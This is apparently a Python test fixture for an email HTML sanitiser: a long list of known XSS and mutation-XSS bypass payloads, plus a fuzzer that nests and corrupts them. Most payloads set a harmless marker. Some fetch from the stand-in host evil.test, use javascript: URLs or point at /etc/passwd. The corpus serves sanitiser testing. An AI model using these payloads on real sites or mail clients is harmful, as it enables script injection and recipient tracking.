"""Hostile HTML: what is known to have got through sanitisers, and a generator of more (email contract E-63)."""

from random import Random

_BOOM = "window.ran=1"
# Each of these wants to set `window.ran`, to load something, or to leave its place. Most by making the sanitiser and the
# browser see two different trees.
KNOWN = [
    f"<script>{_BOOM}</script>", f"<ScRiPt/x>{_BOOM}</sCrIpT >", f"<scr<script>ipt>{_BOOM}</scr</script>ipt>", f"<<script>{_BOOM}//<</script>",
    f"<img src=x onerror={_BOOM}>", f"<img/src=x/onerror='{_BOOM}'>", f'<img src="x` `<script>{_BOOM}</script>"` `>', f"<img src=x:x onerror\n=\n{_BOOM}>",
    f"<svg onload={_BOOM}>", f"<svg><script>{_BOOM}</script></svg>", f"<svg><animate onbegin={_BOOM} attributeName=x dur=1s>", f"<svg><style><img src=x onerror={_BOOM}></style></svg>",
    f"<svg><a xlink:href='javascript:{_BOOM}'><text x=0 y=20>x</text></a></svg>", f"<svg><foreignObject><iframe srcdoc='<script>parent.{_BOOM}</script>'>", f"<svg></p><style><a id=\"</style><img src=1 onerror={_BOOM}>\">",
    f"<svg><title><![CDATA[</title><script>{_BOOM}</script>]]>", f"<math><mtext></form><form><mglyph><style></math><img src onerror={_BOOM}>", f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={_BOOM}&gt;\">",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={_BOOM} src>\">", f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={_BOOM}></style>", f"<math href='javascript:{_BOOM}'>x</math>",
    f"<noscript><p title=\"</noscript><img src=x onerror={_BOOM}>\">", f"<noscript><style></noscript><img src=x onerror={_BOOM}>", f"<noembed><p title=\"</noembed><img src=x onerror={_BOOM}>\">", f"<noframes><p title='</noframes><img src=x onerror={_BOOM}>'>",
    f"<template><script>{_BOOM}</script></template>", f"<template><s><template><s><img src=x onerror={_BOOM}>@shadow", f"<textarea><p title=\"</textarea><img src=x onerror={_BOOM}>\">", f"<title><a title='</title><img src=x onerror={_BOOM}>'>",
    f"<xmp><p title=\"</xmp><img src=x onerror={_BOOM}>\">", f"<plaintext><img src=x onerror={_BOOM}>", f"<select><style></select><img src=x onerror={_BOOM}></style>", f"<option><style></option></select><img src=x onerror={_BOOM}></style>",
    f"<!--><script>{_BOOM}</script>-->", f"<!--a--!><img src=x onerror={_BOOM}>-->", f"<!-- --!<img src=x onerror={_BOOM}> -->", f"<!---><img src=x onerror={_BOOM}>", f"<![CDATA[<img src=x onerror={_BOOM}>]]>", f"<?xml ><img src=x onerror={_BOOM}>?>", f"<!DOCTYPE x [<!ENTITY y '<script>{_BOOM}</script>'>]>&y;",
    f"<a href='javascript:{_BOOM}'>x</a>", f"<a href=' \x01javascript:{_BOOM}'>x</a>", f"<a href='java&#10;script:{_BOOM}'>x</a>", f"<a href='java&Tab;script&colon;{_BOOM}'>x</a>", f"<a href='&#x6A;avascript&#0000058{_BOOM}'>x</a>", f"<a href='JAVASCRIPT:{_BOOM}'>x</a>", "<a href='vbscript:x'>x</a>",
    f"<a href='data:text/html,<script>parent.{_BOOM}</script>'>x</a>", "<a href='data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4='>x</a>", f"<a href=`javascript:{_BOOM}`>x</a>", "<a href='//evil.test/x'>x</a>", "<a href='/admin/delete'>x</a>", "<a href='\\\\evil.test\\x'>x</a>", "<a href='file:///etc/passwd'>x</a>",
    f"<a href=x onclick={_BOOM} autofocus onfocus={_BOOM} tabindex=1>x</a>", f"<p style=x onmouseover={_BOOM}>x", f"<details open ontoggle={_BOOM}>x", f"<video><source onerror={_BOOM}>", "<video poster=//evil.test/p src=//evil.test/v autoplay>", "<audio src=//evil.test/a autoplay>", f"<body onload={_BOOM}>", f"<marquee onstart={_BOOM}>x",
    f"<input autofocus onfocus={_BOOM}>", f"<form action='javascript:{_BOOM}'><input type=submit></form>", f"<isindex action='javascript:{_BOOM}'>", f"<button formaction='javascript:{_BOOM}'>x", f"<iframe src='javascript:parent.{_BOOM}'></iframe>", f"<iframe srcdoc='&lt;script&gt;parent.{_BOOM}&lt;/script&gt;'></iframe>",
    f"<object data='data:text/html,<script>parent.{_BOOM}</script>'></object>", "<embed src=//evil.test/x>", f"<base href='javascript:{_BOOM}//'><a href=x>x</a>", "<link rel=stylesheet href=//evil.test/css>", "<link rel=preload as=image href=//evil.test/i>", "<link rel=dns-prefetch href=//evil.test>", f"<meta http-equiv=refresh content='0;url=javascript:{_BOOM}'>", "<meta http-equiv=refresh content='0;//evil.test'>",
    "<img src=http://evil.test/track.gif>", "<img srcset='http://evil.test/a 1x, http://evil.test/b 2x'>", "<img lowsrc=http://evil.test/a dynsrc=http://evil.test/b longdesc=http://evil.test/c>", "<picture><source srcset=//evil.test/s><img src=cid:x></picture>", "<input type=image src=//evil.test/i>", "<table background=//evil.test/t><td background=//evil.test/u>x", "<body background=//evil.test/b>",
    "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"1\"/>'>", "<img src='cid:a\" onerror=window.ran=1 x=\"'>", "<img src='cid:../../etc/passwd'>", "<img src='http://evil.test/\" onerror=\"window.ran=1'>", "<img src=x style='content:url(//evil.test/c)'>", "<svg><image href=//evil.test/i /><use href=//evil.test/u#x /></svg>", "<svg><filter><feImage href=//evil.test/f /></filter></svg>",
    "<p style='background:url(//evil.test/a)'>x", "<p style='background-image:url(&quot;//evil.test/b&quot;)'>x", "<p style='background-color:red;background:\\75rl(//evil.test/c)'>x", "<p style='list-style:url(//evil.test/d)'>x", "<p style='color:red;cursor:url(//evil.test/e),auto'>x", "<p style='width:expression(window.ran=1)'>x", "<p style='width:exp/**/ression(window.ran=1)'>x",
    "<p style='behavior:url(//evil.test/h)'>x", "<p style='-moz-binding:url(//evil.test/m)'>x", "<p style='color:red}body{background:url(//evil.test/n)}'>x", "<p style='font-family:\"</style><img src=x onerror=window.ran=1>\"'>x", "<p style='background-color:image-set(\"//evil.test/s\" 1x)'>x", "<p style='border:1px solid; border-image:url(//evil.test/bi)'>x", "<p style='font:1px/1 x;src:url(//evil.test/f)'>x",
    "<div style='position:fixed;top:0;left:0;width:9999px;height:9999px;background:red;z-index:99999'>over</div>", "<div style='position:absolute;inset:0'>over</div>", "<div style='POSITION:/**/sticky;top:0'>over</div>", "<div style='margin:-5000px;padding:5000px;background-color:red'>over</div>", "<div style='margin-top:-3000px;height:6000px;background-color:red'>over</div>", "<div style='margin-left:calc(0px - 4000px);width:9000px'>over</div>",
    "<p style='text-indent:-9000px'>x", "<div style='transform:translate(-500px,-500px);opacity:0'>x</div>", "<div style='float:left;width:5000px'>x</div>", "<div style='line-height:99999px'>x</div>", "<font size=+99999999>x", "<table width=99999999 height=99999999><td>x", "<table cellpadding=9999999><td>x", "<div style='letter-spacing:-9999px'>hidden</div>", "<div style='width:99999999px;height:99999999px'>x</div>", "<hr size=9999999 width=9999999>",
    "<style>*{display:none}body{background:url(//evil.test/s)}</style>", "<style>@import '//evil.test/i';</style>", "<style>@font-face{font-family:x;src:url(//evil.test/ff)}</style><p style='font-family:x'>x", "<style></style><style>#outside{color:red!important}</style>", "</div></div></div></body></html><div style='position:fixed;inset:0'>out</div>", "</iframe></template></table></section></main><h1 id=outside>mine</h1>", "<p id=outside class=hero name=outside>x", "<a name=location id=location>x", "<form id=document name=cookie><input name=attributes></form>",
    f"<dialog open onclose={_BOOM}>x</dialog>", "<div popover id=p>x</div><button popovertarget=p>", f"<x onclick={_BOOM} contenteditable autofocus onfocus={_BOOM}>x", "<p is=x-y slot=z part=w>x", f"<table><tr><td><script>{_BOOM}</script>", f"<table><img src=x onerror={_BOOM}></table>", f"<ruby><rt><script>{_BOOM}</script>", f"<b><p><script>{_BOOM}</b></script>",
    f"+ADw-script+AD4-{_BOOM}+ADw-/script+AD4-", f"\ufeff<script>{_BOOM}</script>", f"<\u0000script>{_BOOM}</script>", f"<img src=x o\u0000nerror={_BOOM}>", f"&lt;script&gt;{_BOOM}&lt;/script&gt;", f"&amp;lt;img src=x onerror={_BOOM}&amp;gt;", f"<p title='&quot;><img src=x onerror={_BOOM}>'>x", f"<p title=\"&#34;&#62;&#60;img src=x onerror={_BOOM}&#62;\">x",
    f"<p title=`x onmouseover={_BOOM} `>", f"<p title=a\x0bonmouseover={_BOOM}>x", f"<img alt='<img src=x onerror={_BOOM}>' src=http://evil.test/'\"><img src=x onerror={_BOOM}>", f"<bdo dir=rtl>x</bdo><bdi dir='\"><script>{_BOOM}</script>'>", f"<a title='</a><img src=x onerror={_BOOM}>' href=http://x.test>x</a>", f"<font face='\" onmouseover={_BOOM} x=\"'>x", f"<font color=\"expression({_BOOM})\">x",
]  # fmt: skip
_SHELLS = [
    "svg",
    "math",
    "table",
    "select",
    "noscript",
    "style",
    "title",
    "textarea",
    "template",
    "xmp",
    "iframe",
    "noembed",
    "form",
    "mtext",
    "mglyph",
    "annotation-xml",
    "foreignObject",
    "desc",
    "p",
    "a",
    "b",
    "div",
    "font",
    "td",
    "caption",
    "ruby",
    "option",
    "frameset",
]
_SCHEMES = ["javascript:", "vbscript:", "data:text/html,", "http://evil.test/", "//evil.test/", "cid:", "file:", "blob:", "about:", "x-y:", "mailto:", "tel:", ""]  # fmt: skip
_CSS = [
    "position:fixed", "top:0", "z-index:9", "background:url(//evil.test/x)", "color:red", "width:expression(window.ran=1)", "display:none", "margin:-99px",
    "background-color:\\75 rl(x)", "font-family:'</style>'", "@import '//evil.test'", "color:red;;", "/**/", "behavior:url(#x)", "border:var(--x)", "-webkit-x:1", "width:1e9px",
]  # fmt: skip


def generated(rng: Random) -> str:
    """Some more of the kind: known ones inside one another, broken, misquoted, written in entities."""
    pieces = [_piece(rng, 0) for _ in range(rng.randint(1, 6))]
    source = "".join(pieces)
    for _ in range(rng.randint(0, 3)):
        source = _damaged(rng, source)
    return source


def _piece(rng: Random, depth: int) -> str:
    kind = rng.randrange(8)
    if kind < 3 or depth > 4:
        return rng.choice(KNOWN)
    if kind < 5:
        name = rng.choice(_SHELLS)
        inner = "".join(_piece(rng, depth + 1) for _ in range(rng.randint(1, 3)))
        closing = rng.choice([f"</{name}>", "", f"</{rng.choice(_SHELLS)}>", f"</{name} x='>'>"])
        return f"<{name}{rng.choice([' ', '/', chr(10), ''])}{_attribute(rng)}>{inner}{closing}"
    if kind == 5:
        return f"<{rng.choice(['a', 'img', 'p', 'area', 'link', 'form', 'object', 'embed', 'use', 'image'])} {_attribute(rng)} {_attribute(rng)}>x"
    if kind == 6:
        return f"<p style={_quoted(rng, ';'.join(rng.choice(_CSS) for _ in range(rng.randint(1, 4))))}>x</p>"
    return f"words {rng.choice(['<', '&', '&#0;', '&#xfffe;', ']]>', '-->', '<!', '</', '<?', chr(0), '&lt', '&AMP'])}{rng.randint(0, 99)}"


def _attribute(rng: Random) -> str:
    name = rng.choice(["href", "src", "xlink:href", "style", "title", "onerror", "onload", "ON\u017fomething", "action", "srcset", "data-x", "id", "class", "srcdoc", "dir"])  # fmt: skip
    value = rng.choice(_SCHEMES) + "window.ran=1"
    if rng.random() < 0.5:
        value = "".join(f"&#{'x' if rng.random() < 0.5 else ''}{ord(letter):x};" if rng.random() < 0.3 else letter for letter in value)  # fmt: skip
    if rng.random() < 0.3:
        at = rng.randrange(len(value))
        value = value[:at] + rng.choice(["\t", "\n", "\0", "\x01", "&Tab;", "&NewLine;", "\u00ad", " "]) + value[at:]
    return f"{name}{rng.choice(['=', ' = ', '=='])}{_quoted(rng, value)}"


def _quoted(rng: Random, value: str) -> str:
    mark = rng.choice(['"', "'", "", "`", '"', "'"])
    return f"{mark}{value}{rng.choice([mark, mark, mark, ''])}"


def _damaged(rng: Random, source: str) -> str:
    start = rng.randrange(len(source) + 1)
    end = min(len(source), start + rng.randint(0, 12))
    return source[:start] + rng.choice(["", source[start:end] * 2, "<", ">", '"', "'", "--", "\0", "</", "<!--", "&", "/"]) + source[end:]  # fmt: skip
